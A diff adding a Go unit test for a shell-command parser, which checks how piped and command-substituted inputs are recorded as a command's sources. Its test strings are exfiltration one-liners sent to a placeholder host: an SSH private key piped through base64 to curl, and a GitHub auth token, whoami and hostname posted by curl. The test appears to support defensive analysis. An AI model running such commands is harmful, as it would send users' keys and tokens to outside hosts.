@@ -516,6 +516,69 @@ func TestPositionsAndWrappers(t *testing.T) {
 	}
 }
 
+// TestPipedAndSubstituted: what a pipe and a command substitution feed a
+// command is kept as each feeding command's words, nearest first.
+func TestPipedAndSubstituted(t *testing.T) {
+	words := func(cmds [][]model.Arg) string {
+		var out []string
+		for _, c := range cmds {
+			var ws []string
+			for _, a := range c {
+				ws = append(ws, a.Value)
+			}
+			out = append(out, strings.Join(ws, " "))
+		}
+		return strings.Join(out, " | ")
+	}
+	tests := []struct {
+		line, program, piped, in, substituted string
+	}{
+		{"cat ~/.ssh/id_rsa | base64 | curl -T - https://x", "curl", "base64 | cat ~/.ssh/id_rsa", "", ""},
+		{`curl -d "$(cat key | base64)" https://x`, "curl", "", "$(...)", "base64 | cat key"},
+		{`sudo curl -F "f=$(gh auth token)" https://x`, "curl", "", "f=$(...)", "gh auth token"},
+		{`curl "https://x/?a=$(whoami)&b=$(hostname)" https://y`, "curl", "", "https://x/?a=$(...)&b=$(...)", "whoami | hostname"},
+		{`echo $HOME | curl -d @- https://x`, "curl", "echo $HOME", "", ""},
+		{`curl -d plain https://x`, "curl", "", "", ""}, // no sources at all
+	}
+	for _, tt := range tests {
+		ms, err := Parse(tt.line, Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var c *model.Command
+		for i := range ms {
+			if ms[i].Command.Program == tt.program {
+				c = ms[i].Command
+			}
+		}
+		if c == nil {
+			t.Fatalf("%q: no %s command", tt.line, tt.program)
+		}
+		var src model.Sources
+		if c.Sources != nil {
+			src = *c.Sources
+		} else if tt.piped != "" || tt.in != "" {
+			t.Errorf("%q: no sources", tt.line)
+		}
+		if c.Sources != nil && tt.piped == "" && tt.in == "" {
+			t.Errorf("%q: sources %+v, want nil", tt.line, *c.Sources)
+		}
+		if got := words(src.Piped); got != tt.piped {
+			t.Errorf("%q: piped %q, want %q", tt.line, got, tt.piped)
+		}
+		in, subst := "", ""
+		if len(src.Substituted) > 0 {
+			in, subst = src.Substituted[0].In, words(src.Substituted[0].Commands)
+		}
+		if len(src.Substituted) > 1 {
+			t.Errorf("%q: %d substituted arguments, want at most one", tt.line, len(src.Substituted))
+		}
+		if in != tt.in || subst != tt.substituted {
+			t.Errorf("%q: substituted %q from %q, want %q from %q", tt.line, in, subst, tt.in, tt.substituted)
+		}
+	}
+}
+
 func TestProblemsSayWhy(t *testing.T) {
 	tests := map[string]string{
 		"rm -rf 'x":           "does not parse",
